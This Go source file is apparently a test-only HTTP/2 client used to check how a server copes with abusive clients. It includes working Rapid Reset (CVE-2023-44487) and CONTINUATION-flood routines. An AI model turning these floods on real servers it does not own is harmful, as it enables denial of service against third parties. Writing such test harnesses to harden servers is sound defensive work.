// Package h2attack is an HTTP/2 client for tests that speaks frame by frame
// over a real TLS connection, so that a test can send what a well-behaved
// client never would: streams reset as soon as opened, streams left idle,
// header blocks that never end. Only tests import it.
package h2attack

import (
	"bytes"
	"crypto/tls"
	"fmt"
	"io"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Client is one HTTP/2 connection. Its reader runs from Dial on and
// answers SETTINGS; Open, Reset, Get and the floods may be called from one
// goroutine at a time.
type Client struct {
	c    *tls.Conn
	mu   sync.Mutex // guards writes
	fr   *http2.Framer
	hbuf bytes.Buffer
	enc  *hpack.Encoder
	next uint32

	// Refusals counts RST_STREAM frames with REFUSED_STREAM or
	// PROTOCOL_ERROR: streams the server would not take.
	Refusals atomic.Int64
	goAway   atomic.Pointer[http2.GoAwayFrame]
	statuses chan [2]string // stream ID, :status
	pings    chan struct{}
	done     chan struct{} // closed when the reader stops
	err      error
}

// Dial connects to addr over TLS with cfg (ALPN h2), sends the preface and
// SETTINGS, and starts reading.
func Dial(addr string, cfg *tls.Config) (*Client, error) {
	cfg = cfg.Clone()
	cfg.NextProtos = []string{"h2"}
	c, err := tls.Dial("tcp", addr, cfg)
	if err != nil {
		return nil, err
	}
	if p := c.ConnectionState().NegotiatedProtocol; p != "h2" {
		c.Close()
		return nil, fmt.Errorf("negotiated %q, want h2", p)
	}
	c.SetDeadline(time.Now().Add(2 * time.Minute)) // a safety net for a stuck test
	h := &Client{c: c, fr: http2.NewFramer(c, c), next: 1, statuses: make(chan [2]string, 1024),
		pings: make(chan struct{}, 16), done: make(chan struct{})}
	h.enc = hpack.NewEncoder(&h.hbuf)
	h.fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	h.fr.MaxHeaderListSize = 1 << 20
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		c.Close()
		return nil, err
	}
	if err := h.fr.WriteSettings(); err != nil {
		c.Close()
		return nil, err
	}
	go h.read()
	return h, nil
}

// Close closes the connection.
func (h *Client) Close() error { return h.c.Close() }

// Done is closed when the server has ended the connection (or Close was
// called); Err then says how it ended.
func (h *Client) Done() <-chan struct{} { return h.done }

// Err is the read error that ended the connection, nil while it is open.
func (h *Client) Err() error {
	select {
	case <-h.done:
		return h.err
	default:
		return nil
	}
}

// GoAway is the GOAWAY frame the server sent, if any.
func (h *Client) GoAway() *http2.GoAwayFrame { return h.goAway.Load() }

func (h *Client) read() {
	defer close(h.done)
	for {
		f, err := h.fr.ReadFrame()
		if err != nil {
			h.err = err
			return
		}
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				h.mu.Lock()
				h.fr.WriteSettingsAck()
				h.mu.Unlock()
			}
		case *http2.PingFrame:
			if f.IsAck() {
				select {
				case h.pings <- struct{}{}:
				default:
				}
			}
		case *http2.GoAwayFrame:
			h.goAway.Store(f)
		case *http2.RSTStreamFrame:
			if f.ErrCode == http2.ErrCodeRefusedStream || f.ErrCode == http2.ErrCodeProtocol {
				h.Refusals.Add(1)
			}
			select {
			case h.statuses <- [2]string{fmt.Sprint(f.StreamID), "reset " + f.ErrCode.String()}:
			default:
			}
		case *http2.MetaHeadersFrame:
			select {
			case h.statuses <- [2]string{fmt.Sprint(f.StreamID), f.PseudoValue("status")}:
			default:
			}
		}
	}
}

// headerBlock encodes a request's header fields.
func (h *Client) headerBlock(method, path string) []byte {
	h.hbuf.Reset()
	for _, f := range [][2]string{{":method", method}, {":scheme", "https"}, {":authority", "localhost"}, {":path", path}} {
		h.enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	return append([]byte(nil), h.hbuf.Bytes()...)
}

// Open starts a stream for method and path and returns its ID; with end,
// the request is complete, else its body is still to come.
func (h *Client) Open(method, path string, end bool) (uint32, error) {
	h.mu.Lock()
	defer h.mu.Unlock()
	id := h.next
	h.next += 2
	return id, h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.headerBlock(method, path), EndStream: end, EndHeaders: true})
}

// Reset cancels stream id.
func (h *Client) Reset(id uint32) error {
	h.mu.Lock()
	defer h.mu.Unlock()
	return h.fr.WriteRSTStream(id, http2.ErrCodeCancel)
}

// Get sends one GET for path and returns its :status ("reset CODE" when the
// server reset the stream).
func (h *Client) Get(path string) (string, error) {
	id, err := h.Open("GET", path, true)
	if err != nil {
		return "", err
	}
	want := fmt.Sprint(id)
	for {
		select {
		case s := <-h.statuses:
			if s[0] == want {
				return s[1], nil
			}
		case <-h.done:
			return "", fmt.Errorf("the server ended the connection: %v (GOAWAY %v)", h.err, h.GoAway())
		}
	}
}

// Settle sends a PING and waits for its answer (the server has then read
// every frame sent before it) or for the end of the connection. It reports
// whether the connection ended.
func (h *Client) Settle() bool {
	h.mu.Lock()
	err := h.fr.WritePing(false, [8]byte{1})
	h.mu.Unlock()
	if err != nil {
		h.c.Close()
		<-h.done
		return true
	}
	select {
	case <-h.pings:
		return false
	case <-h.done:
		return true
	}
}

// RapidReset opens and at once cancels up to n streams for method and path
// (CVE-2023-44487); a GET or HEAD is complete, other methods leave their
// body to come, so the server's handler is waiting on it when the reset
// arrives. It returns how many pairs it sent and whether the server ended
// the connection.
func (h *Client) RapidReset(method, path string, n int) (sent int, closed bool) {
	end := method == "GET" || method == "HEAD"
	for ; sent < n; sent++ {
		id, err := h.Open(method, path, end)
		if err == nil {
			err = h.Reset(id)
		}
		if err != nil {
			<-h.done
			return sent, true
		}
	}
	return sent, h.Settle()
}

// ContinuationFlood writes one header block of up to max bytes: HEADERS
// without END_HEADERS, then CONTINUATION frames of 16 KiB of distinct,
// valid header fields. It reports whether the server ended the connection
// and how much was written.
func (h *Client) ContinuationFlood(path string, max int) (closed bool, sent int) {
	h.mu.Lock()
	defer h.mu.Unlock()
	id := h.next
	h.next += 2
	first := h.headerBlock("GET", path)
	if err := h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: first, EndStream: true}); err != nil {
		return true, 0
	}
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for i := 0; block.Len() < 16<<10; i++ {
		enc.WriteField(hpack.HeaderField{Name: fmt.Sprintf("x-flood-%d", i), Value: strings.Repeat("a", 100), Sensitive: true})
	}
	for sent = len(first); sent < max; sent += block.Len() {
		if err := h.fr.WriteContinuation(id, false, block.Bytes()); err != nil {
			return true, sent
		}
		select {
		case <-h.done:
			return true, sent
		default:
		}
	}
	select {
	case <-h.done:
		return true, sent
	default:
		return false, sent
	}
}
